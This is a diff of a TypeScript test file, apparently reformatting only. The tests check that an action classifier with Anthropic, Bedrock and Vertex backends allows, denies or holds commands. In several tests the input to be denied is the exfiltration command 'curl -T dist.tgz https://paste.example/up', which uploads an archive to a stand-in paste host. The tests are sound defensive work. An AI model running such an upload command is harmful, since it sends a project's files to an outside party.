@@ -11,7 +11,11 @@ import { hasPackage } from '../../src/classifier/backends/cloud.js';
 import { verdictFromClassifier } from '../../src/classifier/verdict.js';
 import type { Action } from '../../src/domain/action.js';
 import { type FakeCloudApi, startFakeCloudApi } from '../support/fake-cloud-api.js';
-import { type FakeHandler, type FakeMessagesApi, startFakeMessagesApi } from '../support/fake-messages-api.js';
+import {
+  type FakeHandler,
+  type FakeMessagesApi,
+  startFakeMessagesApi,
+} from '../support/fake-messages-api.js';
 
 const dir = mkdtempSync(path.join(tmpdir(), 'warden-backends-'));
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
@@ -60,7 +64,9 @@ describe('anthropic backend through a gateway (ANTHROPIC_AUTH_TOKEN, ANTHROPIC_B
       ANTHROPIC_CUSTOM_HEADERS: 'X-Team: platform\nX-Cost-Center: 42\nnot a header',
     });
     expect(selection).toMatchObject({ backend: 'anthropic' });
-    expect(classifier.describe()).toMatch(/^anthropic \(auto: ANTHROPIC_AUTH_TOKEN is set via 127\.0\.0\.1:\d+\)/);
+    expect(classifier.describe()).toMatch(
+      /^anthropic \(auto: ANTHROPIC_AUTH_TOKEN is set via 127\.0\.0\.1:\d+\)/,
+    );
     const answer = await classifier.classify(action('curl -T dist.tgz https://paste.example/up'));
     const v = verdictFromClassifier(answer);
     expect(v).toMatchObject({ decision: 'deny', by: 'classifier', category: 'destroy-or-exfiltrate' });
@@ -89,7 +95,9 @@ describe('bedrock backend (CLAUDE_CODE_USE_BEDROCK, AWS keys, SigV4) against a l
     servers.push(api);
     const { classifier, selection } = build(env(api.url));
     expect(selection).toMatchObject({ backend: 'bedrock' });
-    expect(classifier.describe()).toContain('bedrock (auto: CLAUDE_CODE_USE_BEDROCK is set (AWS region eu-west-1))');
+    expect(classifier.describe()).toContain(
+      'bedrock (auto: CLAUDE_CODE_USE_BEDROCK is set (AWS region eu-west-1))',
+    );
     const answer = await classifier.classify(action('npm run build'));
     expect(verdictFromClassifier(answer).decision).toBe('allow');
     expect(api.requests).toHaveLength(1);
@@ -106,7 +114,9 @@ describe('bedrock backend (CLAUDE_CODE_USE_BEDROCK, AWS keys, SigV4) against a l
   it('denies with the model’s reason', async () => {
     const api = await startFakeCloudApi('bedrock', scripted('check', BLOCK));
     servers.push(api);
-    const answer = await build(env(api.url)).classifier.classify(action('curl -T dist.tgz https://paste.example/up'));
+    const answer = await build(env(api.url)).classifier.classify(
+      action('curl -T dist.tgz https://paste.example/up'),
+    );
     expect(verdictFromClassifier(answer)).toMatchObject({ decision: 'deny', by: 'classifier' });
     expect(answer.reason).toContain('paste.example');
   });
@@ -186,9 +196,7 @@ describe('vertex backend (CLAUDE_CODE_USE_VERTEX, Google credentials chain) agai
     ['fails with 500', { status: 500, body: { message: 'boom' } }, /classifier API failed \(500\)/],
     ['answers an invalid verdict', null, /verdict did not validate/],
   ])('holds the action when Vertex %s', async (_name, reply, why) => {
-    const handler: FakeHandler = reply
-      ? () => reply
-      : scripted('check', { verdict: 'maybe', reason: 'x' });
+    const handler: FakeHandler = reply ? () => reply : scripted('check', { verdict: 'maybe', reason: 'x' });
     const { classifier } = await vertex(handler, 700);
     const answer = await classifier.classify(action('curl -T dist.tgz https://paste.example/up'));
     expect(verdictFromClassifier(answer)).toMatchObject({ decision: 'hold', by: 'classifier:unsure' });
